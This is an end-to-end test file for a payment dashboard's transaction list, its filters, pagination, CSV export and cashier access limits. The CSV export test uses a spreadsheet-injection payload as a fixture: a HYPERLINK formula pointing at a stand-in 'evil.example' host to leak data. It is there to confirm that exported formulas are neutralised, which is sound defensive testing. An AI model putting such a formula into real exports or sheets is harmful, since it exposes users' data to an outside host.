/**
 * The dashboard's transactions over real HTTP on the real database: each filter (status, rail, cash point, Douala
 * days, search) gives the right rows, pages of 50, the CSV export with the same filters (header, BOM, every row,
 * formula cells neutralised, its headers), a payment's page (404 when not this merchant's), and a cashier who sees
 * only their cash point's payments and is refused another's.
 */
import { parse } from 'csv-parse/sync';
import type { Msisdn } from '../../../domain/phone';
import { MongoPaymentRequestStore } from '../../../integrations/mongo/paymentRequestStore';
import { eventually, useProduct } from '../../support/chat';
import { fund } from '../e2e.support';
import { aTeamMerchant, signIn, type TeamMerchant } from './dashboard.support';

// Payments are made at chosen moments: the Douala day starts at 23:00 UTC the day before.
let now = new Date('2026-03-09T22:30:00Z');
const product = useProduct({ pagesOnPort: true, clock: () => now });

interface Made {
  id: string;
  requestId: string;
  shortReference: string;
}

/** A request of the merchant to `payer`, paid from their wallet unless `paid: false`. */
async function aRequest(
  merchant: TeamMerchant,
  payer: Msisdn,
  id: string,
  amount: number,
  options: { paid?: boolean; cashPointId?: string; orderReference?: string; reason?: string } = {},
): Promise<Made> {
  const { services } = product;
  if (!(await services.people.find(payer))) {
    const signedUp = await services.people.signUp({ msisdn: payer, name: 'Client', language: 'fr', pin: '2468' });
    if (!signedUp.ok) throw new Error(signedUp.reason);
  }
  const asked = await services.merchantRequests.create({
    merchantId: merchant.merchantId,
    id,
    payer,
    amount,
    source: 'api',
    ...(options.cashPointId ? { cashPointId: options.cashPointId, cashier: merchant.members.cashier } : {}),
    ...(options.orderReference ? { orderReference: options.orderReference } : {}),
    ...(options.reason ? { reason: options.reason } : {}),
  });
  if (!asked.ok) throw new Error(asked.reason);
  if (options.paid !== false) {
    await fund(product, payer, amount);
    const paid = await services.paymentRequests.pay({ id: `pay-${id}`, requestId: asked.payment.requestId, payer });
    if (!paid.ok) throw new Error(paid.reason);
  }
  const { requestId, shortReference } = asked.payment;
  return { id, requestId, shortReference };
}

/** A request of the merchant paid on its pay page by MTN MoMo from the payer's number (the rail's simulator). */
async function paidByMomo(merchant: TeamMerchant, payer: Msisdn, id: string, amount: number): Promise<Made> {
  const { merchantRequests, paymentRequests } = product.services;
  const asked = await merchantRequests.create({ merchantId: merchant.merchantId, id, payer, amount, source: 'api' });
  if (!asked.ok) throw new Error(asked.reason);
  const request = await new MongoPaymentRequestStore(product.db.connection).getRequest(asked.payment.requestId);
  const pages = paymentRequests.byLink!;
  const token = (await pages.linkFor(request!)).split('/').at(-1)!;
  const paying = await pages.payByRail({ token, rail: 'mtn_momo', payerNumber: payer });
  if (!paying.ok) throw new Error(paying.reason);
  await eventually(async () => expect((await merchantRequests.get(merchant.merchantId, id))?.paidBy).toBe('mtn_momo'));
  return { id, requestId: asked.payment.requestId, shortReference: asked.payment.shortReference };
}

/** The short references a list page shows, in its order. */
function referencesOn(html: string): string[] {
  return [...html.matchAll(/class="tx-ref">([A-Z0-9]+)</g)].map((m) => m[1]!);
}

function csvRows(body: string): Record<string, string>[] {
  return parse(body, { columns: true, bom: true }) as Record<string, string>[];
}

it('filters by status, rail, cash point, Douala days and search, newest first', async () => {
  now = new Date('2026-03-09T22:30:00Z'); // 23:30 on the 9th in Douala
  const merchant = await aTeamMerchant(product, '237677730');
  const payerA = '237677730101' as Msisdn;
  const payerB = '237677730102' as Msisdn;
  const a = await aRequest(merchant, payerA, 'a', 2_000, { cashPointId: merchant.cashPointId, orderReference: 'A-17' });
  now = new Date('2026-03-09T23:30:00Z'); // 00:30 on the 10th in Douala
  const b = await aRequest(merchant, payerB, 'b', 3_000, { orderReference: 'B-18' });
  now = new Date('2026-03-10T09:00:00Z');
  const c = await aRequest(merchant, payerA, 'c', 4_000, { paid: false, cashPointId: merchant.cashPointId });
  now = new Date('2026-03-10T09:10:00Z');
  const d = await paidByMomo(merchant, '237677730103' as Msisdn, 'd', 1_200);
  const owner = await signIn(product, merchant.owner);

  const list = async (query: string) => {
    const page = await owner.get(`/transactions?lang=en&${query}`);
    expect(page.status).toBe(200);
    return referencesOn(page.body);
  };
  const [ra, rb, rc, rd] = [a.shortReference, b.shortReference, c.shortReference, d.shortReference];
  expect(await list('')).toEqual([rd, rc, rb, ra]);
  expect(await list('status=paid')).toEqual([rd, rb, ra]);
  expect(await list('status=open')).toEqual([rc]);
  expect(await list('rail=wallet')).toEqual([rb, ra]);
  expect(await list('rail=mtn_momo')).toEqual([rd]);
  expect(await list('rail=orange_money')).toEqual([]);
  expect(await list(`cashPoint=${merchant.cashPointId}`)).toEqual([rc, ra]);
  expect(await list('cashPoint=none')).toEqual([rd, rb]);
  expect(await list('from=2026-03-10&to=2026-03-10')).toEqual([rd, rc, rb]);
  expect(await list('to=2026-03-09')).toEqual([ra]);
  expect(await list('from=2026-03-11')).toEqual([]);
  expect(await list('q=a-17')).toEqual([ra]);
  // A short reference as people type it, and a payer's number as they write it.
  expect(await list(`q=${encodeURIComponent(`${rb.slice(0, 3)}-${rb.slice(3)}`.toLowerCase())}`)).toEqual([rb]);
  expect(await list(`q=${encodeURIComponent('6 77 73 01 01')}`)).toEqual([rc, ra]);
  expect(await list(`q=${encodeURIComponent('+237 6 77 73 01 03')}`)).toEqual([rd]);
  expect(await list('status=paid&cashPoint=none&q=B-18')).toEqual([rb]);

  const french = await owner.get('/transactions?lang=fr&status=paid');
  expect(french.body).toContain('payée');
  expect(french.body).toContain('Exporter en CSV');

  // A filter we did not make is refused, not ignored.
  for (const bad of ['status=failed', 'rail=cash', 'from=2026-02-30', 'from=2026-03-10&to=2026-03-09', 'page=0']) {
    expect((await owner.get(`/transactions?lang=en&${bad}`)).status).toBe(400);
  }
  // Each row opens its payment's page, by the merchant's own id or the full request id.
  const shown = await owner.get('/transactions?lang=en&q=A-17');
  expect(shown.body).toContain('/dashboard/transactions/a?lang=en');
  const detail = await owner.get(`/transactions/${encodeURIComponent(a.requestId)}?lang=en`);
  expect(detail.status).toBe(200);
  expect(detail.body).toContain(`Payment ${ra}`);
  expect(detail.body).toContain('+237 6 77 73 01 01');
  expect(detail.body).toContain('Caisse 1');
});

it('pages the list 50 at a time', async () => {
  now = new Date('2026-03-12T10:00:00Z');
  const merchant = await aTeamMerchant(product, '237677731');
  const payer = '237677731101' as Msisdn;
  const made: Made[] = [];
  for (let n = 0; n < 52; n += 1) {
    now = new Date(Date.UTC(2026, 2, 12, 10, n));
    made.push(await aRequest(merchant, payer, `r${n}`, 100, { paid: false }));
  }
  const viewer = await signIn(product, merchant.members.viewer);
  const first = await viewer.get('/transactions?lang=en');
  expect(referencesOn(first.body)).toEqual(
    made
      .slice(2)
      .reverse()
      .map((m) => m.shortReference),
  );
  expect(first.body).toContain('Page 1 of 2');
  const second = await viewer.get('/transactions?lang=en&page=2');
  expect(referencesOn(second.body)).toEqual([made[1]!.shortReference, made[0]!.shortReference]);
});

it('exports every matching row as CSV, filters applied and formulas neutralised; a viewer may export', async () => {
  now = new Date('2026-03-14T12:00:00Z');
  const merchant = await aTeamMerchant(product, '237677732');
  const payer = '237677732101' as Msisdn;
  const formula = '=HYPERLINK("http://evil.example/?leak","Voir")';
  const risky = await aRequest(merchant, payer, 'risky', 1_500, {
    orderReference: '-42',
    reason: formula,
    cashPointId: merchant.cashPointId,
  });
  now = new Date('2026-03-14T23:05:00Z'); // already the 15th in Douala
  const plain = await aRequest(merchant, payer, 'plain', 2_500, { reason: 'Café crème' });
  await aRequest(merchant, payer, 'open', 900, { paid: false });
  const viewer = await signIn(product, merchant.members.viewer);

  const exported = await viewer.get('/transactions.csv?status=paid');
  expect(exported.status).toBe(200);
  expect(exported.headers.get('content-type')).toBe('text/csv; charset=utf-8');
  expect(exported.headers.get('content-disposition')).toBe(
    `attachment; filename="transactions-${merchant.merchantId}-2026-03-15.csv"`,
  );
  // The BOM is there for Excel (a fetch's text() drops it, so read the bytes).
  const raw = await fetch(`${product.dashboard.url}/transactions.csv`, { headers: { cookie: viewer.cookie } });
  expect([...new Uint8Array(await raw.arrayBuffer()).slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  expect(exported.body.split('\r\n')[0]).toBe(
    'created_at,created_douala,day_douala,id,request_id,short_reference,order_reference,description,payer,amount,' +
      'currency,status,paid_by,paid_from,paid_at,paid_douala,cash_point_id,cash_point,cashier',
  );
  const rows = csvRows(exported.body);
  expect(rows.map((r) => r.id)).toEqual(['plain', 'risky']);
  const [plainRow, riskyRow] = rows;
  expect(plainRow).toMatchObject({
    created_at: '2026-03-14T23:05:00.000Z',
    created_douala: '2026-03-15 00:05',
    day_douala: '2026-03-15',
    short_reference: plain.shortReference,
    description: 'Café crème',
    payer,
    amount: '2500',
    currency: 'XAF',
    status: 'paid',
    paid_by: 'wallet',
    cash_point: '',
  });
  expect(riskyRow).toMatchObject({
    description: `'${formula}`,
    order_reference: "'-42",
    amount: '1500',
    cash_point: 'Caisse 1',
    request_id: risky.requestId,
  });

  // The same filters as the list, and every row: the open one comes with no filter.
  expect(csvRows((await viewer.get('/transactions.csv')).body)).toHaveLength(3);
  expect(csvRows((await viewer.get('/transactions.csv?cashPoint=none&status=paid')).body).map((r) => r.id)).toEqual([
    'plain',
  ]);
  expect(csvRows((await viewer.get('/transactions.csv?q=zzzz')).body)).toEqual([]);
  expect((await viewer.get('/transactions.csv?status=nope')).status).toBe(400);
});

it('shows a cashier only their cash point’s payments, and refuses them another’s', async () => {
  now = new Date('2026-03-15T08:00:00Z');
  const merchant = await aTeamMerchant(product, '237677733');
  const payer = '237677733101' as Msisdn;
  const other = await product.services.cashPoints.create({
    merchantId: merchant.merchantId,
    by: merchant.owner,
    name: 'Caisse 2',
  });
  if (!other.ok) throw new Error(other.reason);
  const mine = await aRequest(merchant, payer, 'mine', 1_000, { cashPointId: merchant.cashPointId });
  const theirs = await aRequest(merchant, payer, 'theirs', 1_000, { cashPointId: other.cashPoint._id });
  const outside = await aRequest(merchant, payer, 'outside', 1_000);
  const cashier = await signIn(product, merchant.members.cashier);

  const list = await cashier.get('/transactions?lang=en');
  expect(list.status).toBe(200);
  expect(referencesOn(list.body)).toEqual([mine.shortReference]);
  expect(list.body).not.toContain('Caisse 2');
  expect(csvRows((await cashier.get('/transactions.csv')).body).map((r) => r.id)).toEqual(['mine']);
  expect((await cashier.get(`/transactions?cashPoint=${merchant.cashPointId}`)).status).toBe(200);
  for (const path of [
    `/transactions?cashPoint=${other.cashPoint._id}`,
    '/transactions?cashPoint=none',
    `/transactions.csv?cashPoint=${other.cashPoint._id}`,
    `/transactions/${theirs.id}`,
    `/transactions/${outside.id}`,
  ]) {
    const refused = await cashier.get(`${path}${path.includes('?') ? '&' : '?'}lang=en`);
    expect(refused.status).toBe(403);
    expect(refused.body).toContain('another cash point');
    expect(refused.body).not.toContain(theirs.shortReference);
  }
  expect((await cashier.get(`/transactions/${mine.id}`)).status).toBe(200);
});

it('answers 404 for a payment of another merchant, by either id', async () => {
  now = new Date('2026-03-16T08:00:00Z');
  const merchant = await aTeamMerchant(product, '237677734');
  const stranger = await aTeamMerchant(product, '237677735', 'Chez Paul');
  const theirs = await aRequest(stranger, '237677735101' as Msisdn, 'shared-id', 1_000);
  const owner = await signIn(product, merchant.owner);
  expect((await owner.get('/transactions/shared-id')).status).toBe(404);
  expect((await owner.get(`/transactions/${encodeURIComponent(theirs.requestId)}`)).status).toBe(404);
  expect((await owner.get('/transactions.csv')).body).not.toContain('shared-id');
});
